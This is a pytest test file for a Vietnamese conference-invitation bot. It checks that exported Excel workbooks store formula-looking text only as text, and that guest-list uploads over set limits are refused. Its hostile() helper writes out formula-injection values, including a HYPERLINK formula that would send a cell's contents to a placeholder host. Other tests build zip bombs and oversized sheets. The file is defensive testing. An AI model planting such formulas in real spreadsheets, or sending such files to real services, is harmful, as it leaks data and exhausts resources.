"""Spreadsheets in and out, made by someone hostile: text is never a formula in the files organisers get, and
a guest list over a limit is refused, naming the limit, before it can stall the bot."""

from __future__ import annotations

import datetime as dt
import io
import multiprocessing
import time
from typing import Any
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from sqlalchemy import select

from bench.hostile_spreadsheets import legal_guest_list, many_sheets, parts, sheet, wide_row, workbook, zip_bomb
from bot.i18n import Translators
from rules import accounts, exports, guest_lists
from rules import workbook as export_workbook
from rules.cells import put
from rules.guest_lists import UnreadableFile, read_guest_list, read_table
from rules.invitations import EXEMPLAR_POOL, Person, create_invitation
from rules.plans import SEED_PLAN, apply_plan, load_plan_file
from rules.roles import OPERATOR
from rules.text import fold
from storage.db import Database
from storage.models import Campaign, Conference, Invitation, Nomination, OrgUnit, SeatPool

NOW = dt.datetime(2020, 5, 20, 3, 0, tzinfo=dt.UTC)
SECRET = b"test-link-secret"
VI = Translators("vi", ZoneInfo("Asia/Ho_Chi_Minh")).default
PREFIXES = ("=", "+", "-", "@")


def hostile(field: str, number: int) -> str:
    """A different formula-looking text for every field, so each one is seen to come back as typed."""
    if number % 5 == 0:
        return f'=HYPERLINK("http://x/?"&B2,"{field}")'
    return f"{PREFIXES[number % 4]}1+1 {field}"


def fitted(model: type, field: str, number: int) -> str:
    """The hostile text cut to the column's length: PostgreSQL refuses what SQLite would store whole,
    and the rules cut typed answers to the same lengths before they are saved."""
    text = hostile(f"{model.__tablename__} {field}", number)
    length = getattr(model.__table__.c[field].type, "length", None)
    return text[:length] if length else text


NOMINATION_FIELDS = (
    "nominee_name",
    "gender",
    "ethnicity",
    "religion",
    "occupation_group",
    "position",
    "workplace",
    "phone_e164",
    "economic_sector",
    "title_code",
    "movement_code",
    "movement_other",
    "achievements",
    "legal_basis",
)
INVITATION_FIELDS = (
    "full_name",
    "gender",
    "ethnicity",
    "religion",
    "occupation_group",
    "economic_sector",
    "sector",
    "position",
    "phone_e164",
    "decline_reason",
)


async def _hostile_world(database: Database) -> tuple[int, set[str]]:
    """The seed plan, a unit and a pool with formula names, a sent nomination and an accepted invitation
    whose every text field looks like a formula; (conference id, the texts that must come back)."""
    texts: set[str] = set()
    async with database.transaction() as db:
        await apply_plan(db, load_plan_file(SEED_PLAN))
        conference = await db.scalar(select(Conference).where(Conference.code == "district"))
        assert conference is not None
        unit = await db.scalar(select(OrgUnit).where(OrgUnit.code == "buoi"))
        assert unit is not None
        unit.name = hostile("unit", 0)
        pool = await db.scalar(
            select(SeatPool).where(SeatPool.conference_id == conference.id, SeatPool.code == EXEMPLAR_POOL)
        )
        assert pool is not None
        pool.title = hostile("pool", 1)
        texts |= {unit.name, pool.title}
        nominator = await accounts.ensure_telegram_account(
            db, telegram_user_id=1001, display_name="Lan", username=None, organiser_ids=(), now=NOW
        )
        nomination = Nomination(
            code="DH-2020-0001",
            nominator_id=nominator.id,
            campaign_id=await db.scalar(select(Campaign.id)),
            conference_id=conference.id,
            unit_id=unit.id,
            status="approved",
            kind="individual",
            submitted_at=NOW,
        )
        for number, field in enumerate(NOMINATION_FIELDS):
            setattr(nomination, field, fitted(Nomination, field, number))
        nomination.nominee_fold = fold(nomination.nominee_name or "")
        db.add(nomination)
        invitation = await create_invitation(
            db,
            conference=conference,
            pool_code=EXEMPLAR_POOL,
            person=Person(full_name=hostile("invitation full_name", 0), unit_id=unit.id),
            secret=SECRET,
            now=NOW,
        )
        assert invitation is not None
        for number, field in enumerate(INVITATION_FIELDS):
            setattr(invitation, field, fitted(Invitation, field, number))
        invitation.status = "accepted"
        texts |= {fitted(Nomination, field, n) for n, field in enumerate(NOMINATION_FIELDS)}
        texts |= {fitted(Invitation, field, n) for n, field in enumerate(INVITATION_FIELDS)}
        return conference.id, texts


def _cells(data: bytes) -> list[Any]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for page in book.worksheets for row in page.iter_rows() for cell in row]


def _assert_text_only(data: bytes, expected: set[str]) -> None:
    cells = _cells(data)
    formulas = [(cell.coordinate, cell.value) for cell in cells if cell.data_type == "f"]
    assert formulas == []
    values = {cell.value for cell in cells}
    assert expected <= values  # each came back exactly as typed
    for cell in cells:
        if isinstance(cell.value, str) and cell.value.startswith(PREFIXES):
            assert cell.data_type == "s" and cell.quotePrefix  # Excel keeps it text even when edited


async def test_the_export_workbook_stores_every_typed_text_as_text(database):
    conference_id, texts = await _hostile_world(database)
    async with database.transaction() as db:
        conference = await db.get_one(Conference, conference_id)
        # With the sensitive columns (asked for, with a reason): every typed text is in the workbook.
        export = await export_workbook.build_export(
            db, [conference], t=VI, actor_id=OPERATOR, now=NOW, sensitive_reason="kiểm tra an toàn bảng tính"
        )
    assert isinstance(export, export_workbook.Export)
    _assert_text_only(export.content, texts)


async def test_the_invitations_file_stores_every_typed_text_as_text(database):
    conference_id, _texts = await _hostile_world(database)
    async with database.transaction() as db:
        data = await exports.invitations_workbook(
            db, conference_id, labels=VI, secret=SECRET, bot_username="b", actor_id=OPERATOR, now=NOW
        )
    assert isinstance(data, bytes)
    _assert_text_only(data, {hostile("invitation full_name", 0), hostile("unit", 0), hostile("pool", 1)})


async def test_the_attendance_list_stores_every_typed_text_as_text(database):
    conference_id, _texts = await _hostile_world(database)
    async with database.transaction() as db:
        conference = await db.get_one(Conference, conference_id)
        conference.venue = "=1+1"
        data = await exports.attendance_workbook(db, conference_id, labels=VI, actor_id=OPERATOR, now=NOW)
    assert isinstance(data, bytes)
    expected = {hostile("invitation full_name", 0), hostile("unit", 0), hostile("invitation position", 7)}
    _assert_text_only(data, expected)


def test_numbers_stay_numbers_and_a_phone_number_stays_its_text():
    page = openpyxl.Workbook().active
    assert page is not None
    assert put(page["A1"], -3).data_type == "n"
    assert put(page["A2"], 0.25).value == 0.25
    phone = put(page["A3"], "+84912345678")
    assert (phone.value, phone.data_type, phone.quotePrefix) == ("+84912345678", "s", True)
    error_like = put(page["A4"], "#N/A")
    assert (error_like.value, error_like.data_type) == ("#N/A", "s")
    assert put(page["A5"], "Nguyễn\x07 Văn An").value == "Nguyễn Văn An"  # XML cannot hold U+0007


# --- guest lists over a limit ------------------------------------------------------------------------------


def _refusal(name: str, data: bytes, **options: Any) -> tuple[str, str]:
    with pytest.raises(UnreadableFile) as refused:
        read_table(name, data, **options)
    return refused.value.code, VI(refused.value.msgid, **refused.value.values)


def _rows_without_cells(count: int) -> bytes:
    return workbook([sheet(b'<row r="%d"/>' % number for number in range(1, count + 1))])


def _grid(rows: int, columns: int) -> bytes:
    return workbook([sheet(b'<row r="%d">%s</row>' % (n, b"<c/>" * columns) for n in range(1, rows + 1))])


@pytest.mark.parametrize(
    ("build", "code", "says"),
    [
        (lambda: parts(201, 10), "too_many_parts", "vượt quá giới hạn 200 thành phần"),
        (lambda: zip_bomb(26 * 1024 * 1024), "part_too_large", "26.0 MB, vượt quá giới hạn 25 MB"),
        (lambda: parts(51, 1024 * 1024), "unpacked_too_large", "vượt quá giới hạn 50 MB"),
        (lambda: zip_bomb(2 * 1024 * 1024), "compression_ratio", "(giới hạn cho phép là 100 lần)"),
        (lambda: many_sheets(21, rows=1, columns=1), "too_many_sheets", "hơn 20 trang tính"),
        (lambda: _rows_without_cells(50_001), "too_many_rows", "Tệp có hơn 2000 dòng"),
        (lambda: wide_row(101), "too_many_columns", "Dòng 1 có hơn 100 cột"),
        (lambda: wide_row(1_000_000, random_values=True), "too_many_columns", "Dòng 1 có hơn 100 cột"),
        (lambda: _grid(2010, 100), "too_many_cells", "hơn 200000 ô dữ liệu"),
    ],
    ids=lambda value: value if isinstance(value, str) and " " not in value else "",
)
def test_an_xlsx_over_a_limit_is_refused_at_once_naming_the_limit(build, code, says):
    data = build()
    refused = _refusal("khach-moi.xlsx", data)
    assert refused[0] == code
    assert says in refused[1]


def test_a_csv_over_a_limit_is_refused_naming_it():
    wide = ("Họ và tên" + ",x" * 100 + "\n").encode()
    assert _refusal("khach.csv", wide) == ("too_many_columns", _says("too_many_columns", row=1, max=100))
    long = ("Họ và tên\n" + "Nguyễn Văn An\n" * 2001).encode()
    assert _refusal("khach.csv", long)[0] == "too_many_rows"


def _says(code: str, **values: Any) -> str:
    return VI(guest_lists.UNREADABLE_MESSAGES[code], **values)


def test_reading_past_the_time_limit_is_refused():
    assert _refusal("khach-moi.xlsx", legal_guest_list(50), seconds=0) == (
        "too_slow",
        "Việc đọc tệp đã kéo dài quá 0 giây nên tôi đã dừng lại. "
        "Vui lòng chỉ gửi danh sách khách mời, trong một bảng tính đơn giản.",
    )


async def test_the_reader_process_gives_the_same_table_and_the_same_refusals():
    data = legal_guest_list(30)
    assert await read_guest_list("khach-moi.xlsx", data) == read_table("khach-moi.xlsx", data)
    with pytest.raises(UnreadableFile) as refused:
        await read_guest_list("khach-moi.xlsx", zip_bomb(30 * 1024 * 1024))
    assert (refused.value.code, refused.value.values) == ("part_too_large", {"size": "30.0", "max": 25})


async def test_a_reader_that_does_not_stop_is_killed_at_the_time_limit(monkeypatch):
    monkeypatch.setattr(guest_lists, "_KILL_AFTER_SECONDS", 0.2)
    with pytest.raises(UnreadableFile) as refused:
        await guest_lists._in_process(time.sleep, (60,), seconds=0.3)
    assert refused.value.code == "too_slow"


class _DeadForkServer:
    """A multiprocessing context whose fork server has died: every start fails as Python reports it."""

    Pipe = staticmethod(multiprocessing.Pipe)

    class Process:
        def __init__(self, **_kwargs: object) -> None:
            pass

        def start(self) -> None:
            raise EOFError("unexpected EOF")


async def test_a_dead_fork_server_does_not_stop_guest_lists_being_read(monkeypatch, caplog):
    monkeypatch.setattr(guest_lists, "_PROCESSES", _DeadForkServer)

    table = await guest_lists.read_guest_list("khach.csv", "Họ và tên\nLê Văn Hùng\n".encode())

    assert [cells for _number, cells in table.rows] == [("Lê Văn Hùng",)]
    assert "fork server failed" in caplog.text


async def test_a_reader_that_needs_too_much_memory_is_stopped():
    with pytest.raises(UnreadableFile) as refused:
        await guest_lists._in_process(bytearray, (2 * guest_lists.READ_MEMORY_BYTES,), seconds=10)
    assert refused.value.code == "too_much_memory"
    assert _says("too_much_memory", **refused.value.values).startswith("Việc đọc tệp cần hơn 512 MB bộ nhớ")


def test_a_real_guest_list_is_far_inside_every_limit():
    # How long it takes is measured in bench/hostile_spreadsheets.py, not asserted here.
    table = read_table("khach-moi.xlsx", legal_guest_list(guest_lists.MAX_ROWS))
    assert len(table.rows) == guest_lists.MAX_ROWS
